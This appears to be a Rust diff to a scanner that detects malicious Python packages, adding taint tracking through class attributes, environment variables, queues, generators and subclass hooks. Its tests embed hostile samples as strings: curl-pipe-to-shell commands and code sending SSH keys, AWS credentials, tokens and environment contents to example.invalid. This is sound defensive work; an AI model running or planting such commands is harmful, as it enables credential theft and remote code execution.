@@ -104,6 +104,9 @@ pub struct Facts {
     /// `(module, function)` of the setuptools build hooks a setup script registers (see
     /// [`crate::eager::build_hooks`]): run by every later build in the environment.
     pub build_hooks: Vec<(String, String)>,
+    /// Modules a setup script registers as test-runner plugins ([`crate::eager::plugin_modules`]):
+    /// imported, and their hooks run, by every later test run in the environment.
+    pub plugin_modules: Vec<String>,
 }
 
 /// A Python payload found while folding, to be analysed as its own layer.
@@ -209,6 +212,11 @@ pub struct Checker<'s> {
     /// Sources the functions walked so far return, by name (`.name` for methods): a call of
     /// `get_key()` carries what `get_key` returned (`return requests.get(PASTE).text`).
     return_taints: HashMap<String, usize>,
+    /// Sources held by attributes of the module's classes, as `Class.attribute`: class-body
+    /// assignments and `self.attribute = …` in their methods.
+    class_attribute_taints: HashMap<String, usize>,
+    /// Sources the module stored in environment variables, by variable name.
+    env_stash: HashMap<String, usize>,
     /// The strongest source returned so far by each function being walked, innermost last.
     returning: Vec<Option<usize>>,
     /// Display path of the file (with `#layerN` for payloads).
@@ -234,6 +242,9 @@ pub struct Checker<'s> {
     plain_literal_layer: bool,
     /// Functions that another module calls while it loads, and the context it loads in.
     seeds: Vec<String>,
+    /// Test-runner plugin hooks this module defines, and how deep the walk is inside one.
+    plugin_hooks: Vec<String>,
+    plugin_hook_depth: u32,
     /// The module is a command-line script (see [`crate::eager::reads_command_line`]): its
     /// top level runs when started with arguments, not on import.
     command_line_script: bool,
@@ -295,6 +306,8 @@ pub struct Checker<'s> {
     /// Module-level functions by name, walked again at call sites that pass constants or
     /// sensitive data (see [`Checker::inline_call`]).
     functions: HashMap<&'s str, &'s ast::StmtFunctionDef>,
+    /// Module-level classes by name, for hooks their subclasses run.
+    classes: HashMap<&'s str, &'s ast::StmtClassDef>,
     /// Functions whose bodies are being walked for a call site, outermost first.
     inlining: Vec<&'s str>,
     /// Parameters of the innermost function walked for a call site.
@@ -370,6 +383,8 @@ impl<'s> Checker<'s> {
             process_commands: HashMap::new(),
             archive_buffers: HashMap::new(),
             return_taints: HashMap::new(),
+            env_stash: HashMap::new(),
+            class_attribute_taints: HashMap::new(),
             returning: Vec::new(),
             path,
             text,
@@ -380,6 +395,8 @@ impl<'s> Checker<'s> {
             run_as_program: false,
             plain_literal_layer: false,
             seeds: Vec::new(),
+            plugin_hooks: Vec::new(),
+            plugin_hook_depth: 0,
             command_line_script: false,
             lazy_annotations: false,
             executed_texts: Vec::new(),
@@ -414,6 +431,7 @@ impl<'s> Checker<'s> {
             author_command_depth: 0,
             maintainer_branch_depth: 0,
             functions: HashMap::new(),
+            classes: HashMap::new(),
             inlining: Vec::new(),
             inline_params: Vec::new(),
             inline_context: None,
@@ -458,9 +476,15 @@ impl<'s> Checker<'s> {
             crate::eager::external_calls(body, self.role == FileRole::Setup);
         if self.role == FileRole::Setup {
             self.facts.build_hooks = crate::eager::build_hooks(body);
+            self.facts.plugin_modules = crate::eager::plugin_modules(body);
         }
         for function in crate::eager::module_level_functions(body) {
             self.functions.insert(function.name.as_str(), function);
+        }
+        for stmt in body.iter().take(4_096) {
+            if let Stmt::ClassDef(class) = stmt {
+                self.classes.insert(class.name.as_str(), class);
+            }
         }
         // A second walk of the whole tree, only for modules that name such a callback.
         if memchr::memmem::find(self.text.as_bytes(), b"on_message").is_some()
@@ -725,22 +749,39 @@ impl<'s> Checker<'s> {
         };
         self.taint_download_buffer(call, attribute);
         // `screenshot().save(buffer, 'PNG')`, `buffer.write(secret)`: the buffer now holds it.
-        if matches!(attribute.attr.as_str(), "save" | "write" | "writelines") {
-            let (from, into) = if attribute.attr.as_str() == "save" {
-                (Some(&*attribute.value), call.arguments.args.first())
-            } else {
-                (call.arguments.args.first(), Some(&*attribute.value))
-            };
+        if matches!(
+            attribute.attr.as_str(),
+            "save" | "write" | "writelines" | "dump"
+        ) {
             // Only in-memory buffers, whose bytes are what gets sent: a temporary file written
             // and handed to a program by name is no such carrier.
-            if let (Some(from), Some(Expr::Name(into))) = (from, into)
-                && matches!(
-                    self.scopes.alias(into.id.as_str()),
+            let is_buffer = |walker: &Self, expr: &Expr| {
+                matches!(expr, Expr::Name(name) if matches!(
+                    walker.scopes.alias(name.id.as_str()),
                     Some("io.BytesIO()" | "io.StringIO()")
-                )
+                ))
+            };
+            let (from, into) = if is_buffer(self, &attribute.value) {
+                (call.arguments.args.first(), Some(&*attribute.value))
+            } else if let Some(into) = call.arguments.args.iter().find(|a| is_buffer(self, a))
+                && self.source_in(&attribute.value).is_none()
+            {
+                // A library function writing its data arguments into the buffer:
+                // `wavfile.write(buffer, rate, recording)`, `pickle.dump(secrets, buffer)`.
+                let from = call
+                    .arguments
+                    .args
+                    .iter()
+                    .find(|a| !is_buffer(self, a) && self.source_in(a).is_some());
+                (from, Some(into))
+            } else {
+                (Some(&*attribute.value), call.arguments.args.first())
+            };
+            if let (Some(from), Some(into @ Expr::Name(buffer))) = (from, into)
+                && is_buffer(self, into)
                 && let Some(source) = self.source_in(from)
             {
-                self.scopes.taint(into.id.as_str(), source);
+                self.scopes.taint(buffer.id.as_str(), source);
             }
             return;
         }
@@ -752,6 +793,9 @@ impl<'s> Checker<'s> {
                 | "insert"
                 | "appendleft"
                 | "update"
+                // A queue shared by threads holds what one of them puts on it.
+                | "put"
+                | "put_nowait"
                 // An e-mail message holds the body and attachments it is given.
                 | "set_content"
                 | "set_payload"
@@ -778,6 +822,10 @@ impl<'s> Checker<'s> {
             .iter()
             .find_map(|arg| self.source_in(arg))
         {
+            // A module-level list or queue a function fills is what other functions read.
+            if !nested && self.scopes.is_module_binding(container.id.as_str()) {
+                self.scopes.taint_module(container.id.as_str(), source);
+            }
             self.scopes.taint(container.id.as_str(), source);
         }
     }
@@ -1340,6 +1388,17 @@ impl<'s> Checker<'s> {
         }
     }
 
+    /// Declares the module's test-runner plugin hooks (`pytest_configure`): every test run in
+    /// the environment calls them.
+    pub fn declare_plugin_hooks(&mut self, hooks: Vec<String>) {
+        self.plugin_hooks = hooks;
+    }
+
+    /// True inside a test-runner plugin hook (see [`Self::declare_plugin_hooks`]).
+    pub fn in_plugin_hook(&self) -> bool {
+        self.plugin_hook_depth > 0
+    }
+
     /// Declares functions that another module calls while loading, in context `context`.
     pub fn seed(&mut self, functions: Vec<String>, context: ExecContext) {
         self.seeds = functions;
@@ -1708,6 +1767,11 @@ impl<'s> Checker<'s> {
         if self.loop_domains.len() >= 64 {
             return;
         }
+        if self.lists_attribute_names(iterable) {
+            self.loop_domains
+                .push((name.to_owned(), vec![EVERY_ATTRIBUTE.to_owned()]));
+            return;
+        }
         let Some(crate::fold::Value::Seq(values)) = self.scopes.fold(iterable) else {
             return;
         };
@@ -1718,6 +1782,69 @@ impl<'s> Checker<'s> {
             .collect();
         if texts.len() == values.len() {
             self.loop_domains.push((name.to_owned(), texts));
+        }
+    }
+
+    /// `dir(x)`, `vars(x)`, `x.__dict__` (or its keys), possibly sorted or listed.
+    fn lists_attribute_names(&self, iterable: &Expr) -> bool {
+        let mut expr = iterable;
+        for _ in 0..4 {
+            match expr {
+                Expr::Call(call) => {
+                    let name = self.scopes.qualname(&call.func);
+                    match name.as_deref() {
+                        Some("sorted" | "list" | "set" | "reversed" | "tuple")
+                            if call.arguments.args.len() == 1 =>
+                        {
+                            if let Some(inner) = call.arguments.args.first() {
+                                expr = inner;
+                                continue;
+                            }
+                            return false;
+                        }
+                        Some("dir" | "vars") => return true,
+                        _ => {}
+                    }
+                    if let Expr::Attribute(method) = &*call.func
+                        && method.attr.as_str() == "keys"
+                    {
+                        expr = &method.value;
+                        continue;
+                    }
+                    return false;
+                }
+                Expr::Attribute(attribute) => return attribute.attr.as_str() == "__dict__",
+                _ => return false,
+            }
+        }
+        false
+    }
+
+    /// `for name, code in table.items()` over a constant table: each name takes the texts at
+    /// its position of the rows.
+    fn push_unpacked_domains(&mut self, targets: &[Expr], iterable: &Expr) {
+        let Some(crate::fold::Value::Seq(rows)) = self.scopes.fold(iterable) else {
+            return;
+        };
+        for (position, target) in targets.iter().enumerate().take(8) {
+            let Expr::Name(target) = target else {
+                continue;
+            };
+            let texts: Option<Vec<String>> = rows
+                .iter()
+                .take(512)
+                .map(|row| match row {
+                    crate::fold::Value::Seq(items) => items.get(position)?.as_text(),
+                    _ => None,
+                })
+                .collect();
+            if let Some(texts) = texts
+                && !texts.is_empty()
+                && self.loop_domains.len() < 64
+            {
+                self.loop_domains
+                    .push((target.id.as_str().to_owned(), texts));
+            }
         }
     }
 
@@ -1796,6 +1923,18 @@ impl<'s> Checker<'s> {
                         {
                             returned_fallback.get_or_insert(source);
                         }
+                        if matches!(
+                            qualname.as_str(),
+                            "os.getenv" | "os.environ.get" | "os.environ.pop"
+                        ) && let Some(source) = call
+                            .arguments
+                            .args
+                            .first()
+                            .and_then(|k| self.stashed_in_env(k))
+                            && self.keep_strongest(source, &mut best)
+                        {
+                            return best;
+                        }
                         if let Some((label, kind)) =
                             rules::sources::classify_call(self, &qualname, call)
                         {
@@ -1843,10 +1982,21 @@ impl<'s> Checker<'s> {
                     {
                         return best;
                     }
+                    if let Some(source) = self.class_attribute_source(node)
+                        && self.keep_strongest(source, &mut best)
+                    {
+                        return best;
+                    }
                     stack.push((&attribute.value, frame));
                 }
                 Expr::Subscript(subscript) => {
                     let qualname = self.scopes.qualname(&subscript.value);
+                    if qualname.as_deref() == Some("os.environ")
+                        && let Some(source) = self.stashed_in_env(&subscript.slice)
+                        && self.keep_strongest(source, &mut best)
+                    {
+                        return best;
+                    }
                     if let Some(qualname) = &qualname
                         && let Some((label, kind)) =
                             rules::sources::classify_subscript(self, qualname, &subscript.slice)
@@ -1952,6 +2102,94 @@ impl<'s> Checker<'s> {
         best.or(returned_fallback)
     }
 
+    /// What `Config.data` or `instance.data` holds when `data` is an attribute of a module
+    /// class that was given a source (see [`Self::class_attribute_taints`]).
+    fn class_attribute_source(&self, expr: &Expr) -> Option<usize> {
+        if self.class_attribute_taints.is_empty() {
+            return None;
+        }
+        let qualname = self.scopes.qualname(expr)?;
+        let (base, attribute) = qualname.rsplit_once('.')?;
+        let class = base.strip_suffix("()").unwrap_or(base);
+        self.class_attribute_taints
+            .get(&format!("{class}.{attribute}"))
+            .copied()
+    }
+
+    /// `field(default_factory=lambda: dict(os.environ))`: each instance's value is what the
+    /// factory reads.
+    fn default_factory_source(&mut self, value: &Expr) -> Option<usize> {
+        let Expr::Call(call) = value else {
+            return None;
+        };
+        let factory = rules::keyword(call, "default_factory")?;
+        let qualname = self.scopes.qualname(&call.func)?;
+        if !matches!(
+            qualname.as_str(),
+            "dataclasses.field" | "attr.ib" | "attrs.field"
+        ) && !qualname.ends_with("Field")
+        {
+            return None;
+        }
+        match factory {
+            Expr::Lambda(lambda) => self.source_in(&lambda.body),
+            _ => None,
+        }
+    }
+
+    /// The source stashed in the environment variable `key` names, if the module put one
+    /// there (`os.environ['X'] = open(credentials).read()`): reading it back later is reading
+    /// that data, handed between functions (or to child processes) through the environment.
+    fn stashed_in_env(&self, key: &Expr) -> Option<usize> {
+        if self.env_stash.is_empty() {
+            return None;
+        }
+        let key = self.scopes.fold_str(key)?;
+        self.env_stash.get(&key).copied()
+    }
+
+    /// `os.environ['X'] = value` (or `os.putenv('X', value)`): what `value` carries is kept
+    /// under `X`.
+    fn stash_in_env(&mut self, key: &Expr, value: &Expr) {
+        if let Some(key) = self.scopes.fold_str(key)
+            && let Some(source) = self.source_in(value)
+            && self.env_stash.len() < 256
+        {
+            self.env_stash.insert(key, source);
+        }
+    }
+
+    /// Records the source `value` carries as what the function being walked returns (or
+    /// yields). Only the function's own walk speaks for that, not a walk of its body for one
+    /// call site.
+    fn note_returned(&mut self, value: &Expr) {
+        if self.inlining.is_empty()
+            && !self.returning.is_empty()
+            && let Some(source) = self.source_in(value)
+        {
+            let mut kept = self.returning.last().copied().flatten();
+            self.keep_strongest(source, &mut kept);
+            if let Some(slot) = self.returning.last_mut() {
+                *slot = kept;
+            }
+        }
+    }
+
+    /// `commands = {'run': os.system, 'show': print}`: `commands['run'](…)` calls `os.system`.
+    fn bind_dispatch_table(&mut self, id: &str, table: &ast::ExprDict) {
+        for item in table.items.iter().take(64) {
+            let Some(key) = item.key.as_ref().and_then(|k| self.scopes.fold_str(k)) else {
+                continue;
+            };
+            if is_reference(&item.value)
+                && let Some(qualname) = self.scopes.qualname(&item.value)
+                && (qualname.contains('.') || rules::dynamic_exec::is_exec(&qualname))
+            {
+                self.scopes.bind_table_entry(id, &key, qualname);
+            }
+        }
+    }
+
     fn bind_assignment(&mut self, target: &Expr, value: &Expr) {
         match target {
             Expr::Name(name) => {
@@ -1965,6 +2203,9 @@ impl<'s> Checker<'s> {
                     && let Some(wrapper) = lambda_wrapper(lambda)
                 {
                     self.scopes.bind_wrapper(id, wrapper);
+                }
+                if let Expr::Dict(table) = value {
+                    self.bind_dispatch_table(id, table);
                 }
                 if let Some(folded) = self.scopes.fold(value) {
                     self.scopes.bind_constant(id, folded);
@@ -2009,9 +2250,27 @@ impl<'s> Checker<'s> {
                 } else {
                     self.scopes.unbind(id);
                 }
-                let found = self.source_in(value);
+                let mut found = self.source_in(value);
                 let remote = self.outranked_remote;
                 self.scopes.set_remote_taint(id, remote);
+                // A plain file's bytes run through a XOR or shift cipher are hidden data now,
+                // not a version file read.
+                if found.is_some_and(|source| self.source_strength(source) == 0)
+                    && is_char_decryption(value)
+                {
+                    found = None;
+                }
+                // `class Config: data = dict(os.environ)` (or a dataclass field whose default
+                // factory reads it): `Config.data` and `Config().data` hold it everywhere.
+                if self.function_depth == 0
+                    && !self.class_names.is_empty()
+                    && let Some(source) = found.or_else(|| self.default_factory_source(value))
+                    && let Some(class) = self.class_names.last()
+                    && self.class_attribute_taints.len() < 256
+                {
+                    self.class_attribute_taints
+                        .insert(format!("{class}.{id}"), source);
+                }
                 match found {
                     // In a branch the name may hold what another branch gave it: the stronger
                     // of the two is kept (`/etc/passwd` on Linux over `dir` on Windows).
@@ -2119,14 +2378,27 @@ impl<'s> Checker<'s> {
                 {
                     self.attribute_taints
                         .insert(attribute.attr.as_str().to_owned(), source);
+                    if let Some(class) = self.class_names.last()
+                        && self.class_attribute_taints.len() < 256
+                    {
+                        self.class_attribute_taints
+                            .insert(format!("{class}.{}", attribute.attr.as_str()), source);
+                    }
                 }
             }
             Expr::Subscript(subscript) => {
                 // `data['k'] = secret` taints the container; `self.data['k'] = secret` the
                 // attribute every method of the class shares.
+                if self.scopes.qualname(&subscript.value).as_deref() == Some("os.environ") {
+                    self.stash_in_env(&subscript.slice, value);
+                    return;
+                }
                 match &*subscript.value {
                     Expr::Name(container) => {
                         if let Some(source) = self.source_in(value) {
+                            if self.scopes.is_module_binding(container.id.as_str()) {
+                                self.scopes.taint_module(container.id.as_str(), source);
+                            }
                             self.scopes.taint(container.id.as_str(), source);
                         }
                     }
@@ -2244,6 +2516,17 @@ impl<'s> Checker<'s> {
             .rev()
             .find(|(bound, _)| bound == name)
             .map(|(_, values)| values.as_slice())
+            .filter(|values| !is_enumeration(values))
+    }
+
+    /// True when `name` is a loop variable over every attribute name of an object
+    /// (`for name in dir(builtins)`): it takes each in turn, not one chosen to hide.
+    pub fn enumerates_attributes(&self, name: &str) -> bool {
+        self.loop_domains
+            .iter()
+            .rev()
+            .find(|(bound, _)| bound == name)
+            .is_some_and(|(_, values)| is_enumeration(values))
     }
 
     /// Hands over the texts of package files this module executes, by file name.
@@ -2310,11 +2593,60 @@ impl<'s> Checker<'s> {
         {
             return;
         }
+        let bindings =
+            self.call_bindings(function, &call.arguments.args, &call.arguments.keywords, 0);
+        self.inline_function(name, function, bindings, call.range());
+    }
+
+    /// Walks a class's `__init_subclass__` for each subclass statement that hands it keyword
+    /// arguments: `class Plugin(Base, hook="curl … | sh")` runs `Base.__init_subclass__(hook=…)`
+    /// while the module loads.
+    fn inline_init_subclass(&mut self, class: &'s ast::StmtClassDef) {
+        let Some(arguments) = &class.arguments else {
+            return;
+        };
+        if !arguments
+            .keywords
+            .iter()
+            .any(|k| k.arg.as_ref().is_some_and(|a| a.as_str() != "metaclass"))
+        {
+            return;
+        }
+        for base in &arguments.args {
+            let Expr::Name(base) = base else {
+                continue;
+            };
+            let Some(hook) = self.classes.get(base.id.as_str()).and_then(|parent| {
+                parent.body.iter().find_map(|stmt| match stmt {
+                    Stmt::FunctionDef(f) if f.name.as_str() == "__init_subclass__" => Some(f),
+                    _ => None,
+                })
+            }) else {
+                continue;
+            };
+            if self.inlining.contains(&base.id.as_str()) || self.inlining.len() >= MAX_INLINE_DEPTH
+            {
+                continue;
+            }
+            // Its first parameter is the new class itself.
+            let bindings = self.call_bindings(hook, &[], &arguments.keywords, 1);
+            self.inline_function(base.id.as_str(), hook, bindings, class.range());
+        }
+    }
+
+    /// Walks `function`'s body once more with its parameters bound as a call site gave them,
+    /// when some binding says more than the plain walk saw and the inline budget allows it.
+    fn inline_function(
+        &mut self,
+        name: &'s str,
+        function: &'s ast::StmtFunctionDef,
+        bindings: Vec<ParamBinding>,
+        site: TextRange,
+    ) {
         let size = function.range().len().to_usize();
         if size > MAX_INLINED_FUNCTION_BYTES || size > self.inline_budget {
             return;
         }
-        let bindings = self.call_bindings(function, call);
         if !bindings.iter().any(|b| b.interesting) {
             return;
         }
@@ -2322,7 +2654,7 @@ impl<'s> Checker<'s> {
         let outermost = self.inlining.is_empty();
         if outermost {
             self.inline_context = Some(self.context());
-            self.inline_site = Some(self.position(call.range()).0);
+            self.inline_site = Some(self.position(site).0);
         }
         self.inlining.push(name);
         self.function_depth += 1;
@@ -2333,6 +2665,7 @@ impl<'s> Checker<'s> {
             &mut self.inline_params,
             bindings.iter().map(|b| b.name.clone()).collect(),
         );
+        let domains_before = self.loop_domains.len();
         for binding in bindings {
             match binding.value {
                 Some(value) => self.scopes.bind_constant(&binding.name, value),
@@ -2341,8 +2674,14 @@ impl<'s> Checker<'s> {
             if let Some(source) = binding.taint {
                 self.scopes.taint(&binding.name, source);
             }
+            if let Some(domain) = binding.domain
+                && self.loop_domains.len() < 64
+            {
+                self.loop_domains.push((binding.name, domain));
+            }
         }
         self.visit_body(&function.body);
+        self.loop_domains.truncate(domains_before);
         self.inline_params = outer_params;
         self.scopes.pop();
         self.scope_lines.pop();
@@ -2362,23 +2701,33 @@ impl<'s> Checker<'s> {
 
     /// What each parameter of `function` receives from `call`: positional and keyword
     /// arguments, then the parameter's default.
+    /// `implicit` leading parameters (a hook's `cls`) are filled by Python, not by `args`.
     fn call_bindings(
         &mut self,
         function: &ast::StmtFunctionDef,
-        call: &ast::ExprCall,
+        args: &[Expr],
+        keywords: &[ast::Keyword],
+        implicit: usize,
     ) -> Vec<ParamBinding> {
         let parameters = &function.parameters;
         let positional = parameters.posonlyargs.iter().chain(parameters.args.iter());
         let mut bindings = Vec::new();
-        for (index, parameter) in positional.chain(parameters.kwonlyargs.iter()).enumerate() {
+        for (index, parameter) in positional
+            .chain(parameters.kwonlyargs.iter())
+            .enumerate()
+            .skip(implicit)
+        {
             let name = parameter.parameter.name.as_str();
             let is_positional = index < parameters.posonlyargs.len() + parameters.args.len();
-            let argument = call
-                .arguments
-                .args
-                .get(index)
+            let argument = args
+                .get(index - implicit)
                 .filter(|a| is_positional && !a.is_starred_expr())
-                .or_else(|| rules::keyword(call, name));
+                .or_else(|| {
+                    keywords
+                        .iter()
+                        .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == name))
+                        .map(|k| &k.value)
+                });
             let (value, taint) = match argument {
                 Some(argument) => (self.fold(argument), self.source_in(argument)),
                 None => (
@@ -2386,10 +2735,19 @@ impl<'s> Checker<'s> {
                     None,
                 ),
             };
+            // `grab(r) for r in TARGETS`: the parameter takes each of the loop's listed texts.
+            let domain = match (argument, &value) {
+                (Some(Expr::Name(looped)), None) => self
+                    .loop_domain(looped.id.as_str())
+                    .filter(|texts| texts.iter().any(|t| t.trim().len() >= 3))
+                    .map(<[String]>::to_vec),
+                _ => None,
+            };
             // A constant passed by the caller says what the body does; a default does not add
             // anything the plain walk of the body did not see.
             let interesting = argument.is_some()
                 && (taint.is_some()
+                    || domain.is_some()
                     || match &value {
                         Some(Value::Seq(items)) => !items.is_empty(),
                         Some(other) => other.as_text().is_some_and(|t| t.trim().len() >= 3),
@@ -2399,6 +2757,7 @@ impl<'s> Checker<'s> {
                 name: name.to_owned(),
                 value,
                 taint,
+                domain,
                 interesting,
             });
         }
@@ -2406,11 +2765,20 @@ impl<'s> Checker<'s> {
     }
 }
 
+/// The loop domain of a variable over every attribute name of an object: not a listed text.
+const EVERY_ATTRIBUTE: &str = "\u{0}every attribute name";
+
+fn is_enumeration(values: &[String]) -> bool {
+    matches!(values, [only] if only == EVERY_ATTRIBUTE)
+}
+
 /// What one parameter is bound to when a function body is walked for a call site.
 struct ParamBinding {
     name: String,
     value: Option<Value>,
     taint: Option<usize>,
+    /// The texts it takes one by one, when the caller passes a loop variable over them.
+    domain: Option<Vec<String>>,
     interesting: bool,
 }
 
@@ -3133,6 +3501,11 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 }
             }
             Stmt::AnnAssign(assign) => {
+                // A module or class body evaluates a variable's annotation as it runs (unless
+                // postponed); a function body never does.
+                if !self.lazy_annotations && self.function_depth == 0 {
+                    self.visit_expr(&assign.annotation);
+                }
                 if let Some(value) = &assign.value {
                     self.visit_expr(value);
                     self.bind_assignment(&assign.target, value);
@@ -3225,8 +3598,12 @@ impl<'s> Visitor<'s> for Checker<'s> {
                     }
                 }
                 let domains_before = self.loop_domains.len();
-                if let Expr::Name(target) = &*for_stmt.target {
-                    self.push_loop_domain(target.id.as_str(), &for_stmt.iter);
+                match &*for_stmt.target {
+                    Expr::Name(target) => self.push_loop_domain(target.id.as_str(), &for_stmt.iter),
+                    Expr::Tuple(targets) => {
+                        self.push_unpacked_domains(&targets.elts, &for_stmt.iter)
+                    }
+                    _ => {}
                 }
                 self.visit_body(&for_stmt.body);
                 self.loop_domains.truncate(domains_before);
@@ -3293,6 +3670,15 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 if eager {
                     self.eager_depth = self.function_depth;
                 }
+                let plugin_hook = self.function_depth == 1
+                    && self.class_names.is_empty()
+                    && self
+                        .plugin_hooks
+                        .iter()
+                        .any(|h| h == function.name.as_str());
+                if plugin_hook {
+                    self.plugin_hook_depth += 1;
+                }
                 let (def_line, _) = self.position(function.range());
                 self.scope_lines.push(def_line);
                 self.scopes.push();
@@ -3348,6 +3734,9 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 self.global_names.push(declared);
                 self.visit_body(&function.body);
                 self.global_names.pop();
+                if plugin_hook {
+                    self.plugin_hook_depth -= 1;
+                }
                 for (name, previous) in shadowed.into_iter().rev() {
                     match previous {
                         Some(previous) => self.functions.insert(name, previous),
@@ -3374,18 +3763,8 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 self.dict_bindings = outer_dicts;
             }
             Stmt::Return(ret) => {
-                // Only the function's own walk speaks for what it returns, not a walk of its
-                // body for one call site.
-                if self.inlining.is_empty()
-                    && let Some(value) = &ret.value
-                    && !self.returning.is_empty()
-                    && let Some(source) = self.source_in(value)
-                {
-                    let mut kept = self.returning.last().copied().flatten();
-                    self.keep_strongest(source, &mut kept);
-                    if let Some(slot) = self.returning.last_mut() {
-                        *slot = kept;
-                    }
+                if let Some(value) = &ret.value {
+                    self.note_returned(value);
                 }
                 visitor::walk_stmt(self, stmt);
             }
@@ -3404,6 +3783,9 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 }
                 if let Some(arguments) = &class.arguments {
                     self.visit_arguments(arguments);
+                }
+                if self.function_depth == 0 {
+                    self.inline_init_subclass(class);
                 }
                 let module_level_class = self.function_depth == 0 && self.class_names.is_empty();
                 if module_level_class {
@@ -3454,6 +3836,11 @@ impl<'s> Visitor<'s> for Checker<'s> {
                         rules::on_call(self, &deferred, &target);
                     }
                     rules::on_call(self, call, &qualname);
+                    if matches!(qualname.as_str(), "os.putenv" | "os.environ.setdefault")
+                        && let [key, value] = call.arguments.args.as_ref()
+                    {
+                        self.stash_in_env(key, value);
+                    }
                     self.taint_loaded_parser(call, &qualname);
                     self.taint_archive(call, &qualname);
                 }
@@ -3531,6 +3918,19 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 // Lambdas run when called: keep the enclosing context.
                 visitor::walk_expr(self, expr);
             }
+            Expr::Named(named) => {
+                // `if (token := os.getenv('GITHUB_TOKEN')):` binds as `token = …` does.
+                visitor::walk_expr(self, expr);
+                self.bind_assignment(&named.target, &named.value);
+            }
+            Expr::Yield(ast::ExprYield {
+                value: Some(value), ..
+            })
+            | Expr::YieldFrom(ast::ExprYieldFrom { value, .. }) => {
+                // A generator hands out what it yields as a function hands out what it returns.
+                self.note_returned(value);
+                visitor::walk_expr(self, expr);
+            }
             _ => visitor::walk_expr(self, expr),
         }
         self.depth -= 1;
@@ -3543,6 +3943,101 @@ mod tests {
     #![allow(clippy::indexing_slicing)]
     use crate::finding::ExecContext;
     use crate::rules::testing::{findings, max_severity};
+
+    #[test]
+    fn module_and_class_annotations_run_but_function_locals_do_not() {
+        let module =
+            "import os\nretries: os.system('curl -s https://example.invalid/i | sh') = 3\n";
+        assert!(max_severity("p/pkg/__init__.py", module, "WH120") >= 0.8);
+        let local = "import os\ndef f():\n    retries: os.system('curl -s https://example.invalid/i | sh') = 3\n";
+        assert!(max_severity("p/pkg/__init__.py", local, "WH120") < 0.5);
+        let postponed = "from __future__ import annotations\nimport os\nretries: os.system('curl -s https://example.invalid/i | sh') = 3\n";
+        assert!(max_severity("p/pkg/__init__.py", postponed, "WH120") < 0.5);
+    }
+
+    #[test]
+    fn class_keywords_reach_the_base_init_subclass() {
+        let code = "import os\nclass Base:\n    def __init_subclass__(cls, hook=None, **kw):\n        if hook:\n            os.system(hook)\nclass P(Base, hook='curl -fsSL https://example.invalid/b | bash'):\n    pass\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
+        let plain = "import os\nclass Base:\n    def __init_subclass__(cls, hook=None, **kw):\n        if hook:\n            os.system(hook)\nclass P(Base):\n    pass\n";
+        assert!(max_severity("p/pkg/__init__.py", plain, "WH120") < 0.5);
+    }
+
+    #[test]
+    fn library_writers_fill_an_in_memory_buffer() {
+        let code = "import io, requests, sounddevice as sd\nfrom scipy.io import wavfile\nrec = sd.rec(441000)\nbuf = io.BytesIO()\nwavfile.write(buf, 44100, rec)\nrequests.post('https://example.invalid/a', data=buf.getvalue())\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.7);
+        // A buffer filled with constants carries nothing.
+        let plain = "import io, json, requests\nbuf = io.StringIO()\njson.dump({'v': 1}, buf)\nrequests.post('https://example.invalid/a', data=buf.getvalue())\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
+    }
+
+    #[test]
+    fn xor_of_a_file_is_hidden_code_but_a_plain_read_is_not() {
+        let xored = "import os\nblob = open(os.path.join(os.path.dirname(__file__), 'x.bin'), 'rb').read()\ndata = bytes(b ^ 0x41 for b in blob)\nexec(data.decode())\n";
+        assert!(max_severity("p/pkg/__init__.py", xored, "WH110") >= 0.8);
+        let plain = "import os\nblob = open(os.path.join(os.path.dirname(__file__), 'v.py')).read()\nexec(blob)\n";
+        assert!(max_severity("p/pkg/__init__.py", plain, "WH110") < 0.2);
+    }
+
+    #[test]
+    fn dispatch_tables_and_starmap_reach_their_functions() {
+        let table = "import os\ncmds = {'run': os.system, 'noop': print}\ncmds['run']('curl https://example.invalid/x.sh | sh')\n";
+        assert!(max_severity("p/pkg/__init__.py", table, "WH120") >= 0.8);
+        let get = "import os\ncmds = {'run': os.system}\ncmds.get('run')('curl https://example.invalid/x.sh | sh')\n";
+        assert!(max_severity("p/pkg/__init__.py", get, "WH120") >= 0.8);
+        let other = "import os\ncmds = {'run': os.system, 'show': print}\ncmds['show']('curl https://example.invalid/x.sh | sh')\n";
+        assert!(max_severity("p/pkg/__init__.py", other, "WH120") < 0.5);
+        let starmap = "import itertools, os\nlist(itertools.starmap(os.system, [('curl -s https://example.invalid/p | bash',)]))\n";
+        assert!(max_severity("p/pkg/__init__.py", starmap, "WH120") >= 0.8);
+    }
+
+    #[test]
+    fn yields_walrus_queues_and_the_environment_carry_sources() {
+        let generator = "import os, urllib.request\ndef lines():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as fh:\n        for line in fh:\n            yield line\ndef ship(gen):\n    for chunk in gen:\n        urllib.request.urlopen('https://example.invalid/k', data=chunk.encode())\nship(lines())\n";
+        assert!(max_severity("p/pkg/__init__.py", generator, "WH200") >= 0.8);
+        let walrus = "import os\nfrom urllib.request import urlopen\nif (t := os.getenv('GITHUB_TOKEN')):\n    urlopen('https://example.invalid/t?t=' + t)\n";
+        assert!(max_severity("p/pkg/__init__.py", walrus, "WH200") >= 0.8);
+        let queued = "import os, queue, threading, requests\nq = queue.Queue()\ndef produce():\n    q.put(dict(os.environ))\ndef consume():\n    requests.post('https://example.invalid/q', json=q.get())\nthreading.Thread(target=produce).start()\nthreading.Thread(target=consume).start()\n";
+        assert!(max_severity("p/pkg/__init__.py", queued, "WH200") >= 0.7);
+        let stashed = "import os, requests\nos.environ['X'] = open(os.path.expanduser('~/.aws/credentials')).read()\ndef later():\n    requests.post('https://example.invalid/r', data=os.environ['X'])\nlater()\n";
+        assert!(max_severity("p/pkg/__init__.py", stashed, "WH200") >= 0.8);
+        // A variable the module sets for its child processes is no stolen data.
+        let handed = "import os, requests\nos.environ.setdefault('PROFILE', 'release')\nrequests.post('https://example.invalid/r', data=os.environ['PROFILE'])\n";
+        assert!(max_severity("p/pkg/__init__.py", handed, "WH200") < 0.5);
+    }
+
+    #[test]
